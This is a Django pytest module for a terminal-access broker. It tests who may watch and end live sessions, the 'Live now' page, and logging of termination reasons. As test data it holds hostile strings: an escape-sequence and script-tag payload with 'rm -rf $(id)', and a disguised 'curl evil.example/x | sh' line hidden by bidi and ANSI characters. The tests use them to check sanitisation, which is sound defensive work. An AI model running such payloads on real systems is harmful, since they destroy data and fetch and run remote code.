"""Live now: who sees which open session, the page and its poll, and ending sessions with a reason.

The persona matrix runs through the selector, the permission helpers and the pages, so a rule
that differs between them fails here. Sessions are rows (no shell): what is under test is who
may see and end them; terminal.live and the real sessions are in test_live_session.py.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts import permissions
from accounts.models import User
from audit.models import LogbookEntry
from core.errors import NotAllowed
from requests_app import services as request_services
from requests_app.models import AccessRequest, Grant, GrantStatus, Instance, RequestStatus
from terminal import live_services, presence, selectors
from terminal.models import Client as SessionClient
from terminal.models import SessionKind, TerminalSession
from tests.conftest import World
from tests.factories import make_membership, make_user

pytestmark = pytest.mark.django_db


@dataclass
class Scene:
    world: World
    session: TerminalSession  # the requester's browser shell on prod
    cli: TerminalSession  # the requester's CLI command on prod
    stale: TerminalSession  # its web process went silent: not live
    ended: TerminalSession
    staging: TerminalSession  # on the other account
    other_approver: User  # approves staging only
    admin: User


def _grant(world: World, instance: Instance, requester: User | None = None) -> Grant:
    access_request = request_services.access_request_create(
        requester=requester or world.requester, account=instance.account, instances=[instance], reason="live"
    )
    now = timezone.now()
    AccessRequest.objects.filter(pk=access_request.pk).update(
        status=RequestStatus.ACTIVE, activated_at=now, expires_at=now + timedelta(hours=1)
    )
    Grant.objects.filter(request=access_request).update(status=GrantStatus.READY, ready_at=now)
    return Grant.objects.select_related("request__account", "instance").get(request=access_request)


def _session(grant: Grant, **extra: Any) -> TerminalSession:
    fields: dict[str, Any] = {"heartbeat_at": timezone.now(), "user": grant.request.requester}
    fields.update(extra)
    return TerminalSession.objects.create(grant=grant, **fields)


@pytest.fixture
def scene(world: World) -> Scene:
    other_approver = make_user("olga")
    make_membership(other_approver, world.staging, "admin", can_approve=True)
    admin = make_user("root", is_superuser=True, is_staff=True)
    grant = _grant(world, world.web)
    return Scene(
        world=world,
        session=_session(grant),
        cli=_session(grant, client=SessionClient.CLI, kind=SessionKind.EXEC, command="uptime; id"),
        stale=_session(grant, heartbeat_at=timezone.now() - timedelta(minutes=5)),
        ended=_session(grant, ended_at=timezone.now(), end_reason="The shell ended."),
        staging=_session(_grant(world, world.stage_web)),
        other_approver=other_approver,
        admin=admin,
    )


def _live_ids(user: User) -> set[int]:
    return {row.session.pk for row in selectors.live_session_list(user=user)}


def test_who_sees_which_open_session(scene: Scene) -> None:
    world = scene.world
    prod_live = {scene.session.pk, scene.cli.pk}
    everything_live = prod_live | {scene.staging.pk}
    expected = {
        "requester": (world.requester, set()),  # never their own, though an Admin and the requester
        "approver": (world.approver, prod_live),
        "other account's approver": (scene.other_approver, {scene.staging.pk}),
        "auditor": (world.auditor, everything_live),
        "site admin": (scene.admin, everything_live),
        "plain user": (world.outsider, set()),
        "another Admin of the account": (world.member, set()),
        "observer of the account": (world.observer, set()),
    }
    for who, (user, ids) in expected.items():
        assert _live_ids(user) == ids, who
        for session in (scene.session, scene.cli, scene.staging):
            assert permissions.can_watch_session(user, session) == (session.pk in ids), (who, session.pk)
        assert permissions.may_watch_sessions_anywhere(user) == (bool(ids) or user == world.approver), who
    # Moderators: approvers of the account (site admins approve everywhere); an auditor only watches.
    assert permissions.counts_as_moderator(world.approver, scene.session)
    assert permissions.counts_as_moderator(scene.admin, scene.session)
    assert not permissions.counts_as_moderator(world.auditor, scene.session)
    assert not permissions.counts_as_moderator(scene.other_approver, scene.session)
    assert not permissions.counts_as_moderator(world.requester, scene.session)


def test_an_approver_is_never_the_watcher_of_their_own_session(scene: Scene) -> None:
    world = scene.world
    own = _session(_grant(world, world.web, requester=world.approver))
    world.approver.is_auditor = True
    world.approver.save()
    assert own.pk not in _live_ids(world.approver)
    assert not permissions.can_watch_session(world.approver, own)
    assert not permissions.counts_as_moderator(world.approver, own)
    assert own.pk in _live_ids(world.auditor)


def test_the_requester_under_another_user_neither_watches_nor_moderates(scene: Scene) -> None:
    world = scene.world
    # The requester's second user, an approver of the account (their SSO one beside a local account).
    second_self = make_user("alice-sso")
    second_self.email = " Alice@Example.test"
    second_self.save(update_fields=["email"])
    make_membership(second_self, world.prod, "admin", can_approve=True)
    assert _live_ids(second_self) == set()
    assert not permissions.can_watch_session(second_self, scene.session)
    assert not permissions.counts_as_moderator(second_self, scene.session)
    with pytest.raises(NotAllowed):
        live_services.session_terminate(session=scene.session, user=second_self, reason="mine")
    # Another approver of the account still is a moderator.
    assert permissions.counts_as_moderator(world.approver, scene.session)


def _client(user: User) -> Client:
    client = Client()
    client.force_login(user)
    return client


def test_live_now_page_lists_columns_and_its_poll_answers_204_until_something_changes(scene: Scene) -> None:
    world = scene.world
    scene.session.bytes_in, scene.session.bytes_out = 12, 3456
    scene.session.save()
    Instance.objects.filter(pk=world.web.pk).update(name="web-renamed")  # today's name, not the one at request
    client = _client(world.approver)
    page = client.get(reverse("terminal:live"))
    assert page.status_code == 200
    body = page.content.decode()
    rows = body.count('data-testid="live-row"')
    assert rows == 2
    assert f'data-session="{scene.staging.pk}"' not in body and f'data-session="{scene.stale.pk}"' not in body
    assert "web-renamed" in body and world.web.instance_id in body
    assert "3.4\xa0KB" in body and "12\xa0bytes" in body
    assert reverse("requests:detail", args=[scene.session.grant.request_id]) in body
    assert "uptime; id" in body and "CLI" in body
    assert 'href="/terminal/live/"' in body  # the nav links it
    seen = page.context["seen"]
    poll = {"HX-Request": "true"}
    url = reverse("terminal:live") + f"?fragment=sessions&seen={seen}"
    assert client.get(url, headers=poll).status_code == 204
    # Someone begins watching (any web process, through terminal.presence): the poll answers again.
    watcher = presence.Watcher(id="w-1", user_id=world.auditor.pk, name="Dave <b>Auditor</b>", approver=False)
    presence.watcher_beat(session_id=scene.session.pk, watcher=watcher)
    try:
        changed = client.get(url, headers=poll)
        assert changed.status_code == 200
        assert "Dave &lt;b&gt;Auditor&lt;/b&gt;" in changed.content.decode()
    finally:
        presence.watcher_gone(session_id=scene.session.pk, watcher=watcher)


def test_pages_refuse_everyone_else(scene: Scene) -> None:
    world = scene.world
    for user in (world.requester, world.outsider, world.member):
        client = _client(user)
        assert client.get(reverse("terminal:live")).status_code == 403
        assert client.get(reverse("terminal:watch", args=[scene.session.pk])).status_code == 404
        refused = client.post(reverse("terminal:end", args=[scene.session.pk]), {"reason": "x", "scope": "session"})
        assert refused.status_code == 404
    assert "Live now" not in _client(world.outsider).get(reverse("requests:list")).content.decode()
    other = _client(scene.other_approver)
    assert other.get(reverse("terminal:watch", args=[scene.session.pk])).status_code == 404
    assert other.get(reverse("terminal:watch", args=[scene.staging.pk])).status_code == 200
    assert not LogbookEntry.objects.filter(action="session.terminated").exists()


def test_ending_needs_a_reason_and_reaches_the_logbook(scene: Scene) -> None:
    world = scene.world
    client = _client(world.approver)
    url = reverse("terminal:end", args=[scene.session.pk])
    blank = client.post(url, {"reason": "  \n ", "scope": "session"})
    assert blank.status_code == 400
    assert "Say why the session is being ended" in blank.content.decode()
    # Hostile text: shown as text on the page, and one plain line for the person's terminal.
    hostile = "\x1b]0;pwned\x07<script>alert(1)</script>\nrm -rf $(id)\u202e"
    done = client.post(url, {"reason": hostile, "scope": "session"})
    assert done.status_code == 302 and done["Location"] == reverse("terminal:live")
    entry = LogbookEntry.objects.get(action="session.terminated")
    assert entry.actor_id == world.approver.pk
    assert entry.detail["terminal_session"] == scene.session.pk and entry.detail["scope"] == "session"
    assert entry.detail["reason"] == "]0;pwned <script>alert(1)</script> rm -rf $(id)"
    assert entry.detail["of"] == world.requester.username
    # The whole request: every open session of it (both prod sessions, not the ended or staging one).
    everything = client.post(url, {"reason": "change window closed", "scope": "request"})
    assert everything.status_code == 302
    ended_all = LogbookEntry.objects.filter(action="session.terminated", detail__scope="request")
    assert {entry.detail["terminal_session"] for entry in ended_all} == {scene.session.pk, scene.cli.pk, scene.stale.pk}
    page = client.get(reverse("terminal:end", args=[scene.session.pk]))
    assert page.status_code == 200 and "&lt;script&gt;" not in page.content.decode()  # nothing echoed


def test_the_service_refuses_a_person_who_may_not_watch(scene: Scene) -> None:
    from core.errors import NotAllowed, RequestRuleError

    with pytest.raises(NotAllowed):
        live_services.session_terminate(session=scene.session, user=scene.world.requester, reason="mine")
    with pytest.raises(RequestRuleError):
        live_services.session_terminate(session=scene.session, user=scene.world.approver, reason="\x1b\x07 ")
    assert (
        live_services.request_sessions_terminate(
            access_request=scene.session.grant.request, user=scene.world.requester, reason="mine"
        )
        == 0
    )
    assert not LogbookEntry.objects.filter(action="session.terminated").exists()


def test_live_now_reads_a_fixed_number_of_queries_however_many_sessions(scene: Scene) -> None:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client = _client(scene.world.auditor)

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            assert client.get(reverse("terminal:live")).status_code == 200
        return len(captured)

    few = queries()
    for _ in range(4):
        _session(_grant(scene.world, scene.world.db))
    assert len(selectors.live_session_list(user=scene.world.auditor)) == 7
    assert queries() == few


def test_live_now_and_the_watch_page_show_a_command_line_with_its_hidden_characters_made_visible(
    world: World,
) -> None:
    # For a command session this line is all an approver sees live when deciding to end it.
    hostile = "cat notes.txt #\u202e\x1b[8m; curl -s evil.example/x | sh"
    grant = _grant(world, world.web)
    session = _session(grant, client=SessionClient.CLI, kind=SessionKind.EXEC, command=hostile)
    client = Client()
    client.force_login(world.approver)

    live = client.get(reverse("terminal:live")).content.decode()
    watch = client.get(reverse("terminal:watch", args=[session.pk])).content.decode()

    cell = live.split('class="mono small live-command">', 1)[1].split("</div>", 1)[0]
    shown = watch.split("A command session (", 1)[1].split(")", 1)[0]
    for text in (cell, shown):
        assert "\u202e" not in text and "\x1b" not in text
        assert "cat notes.txt #\\u202e\\x1b[8m; curl" in text
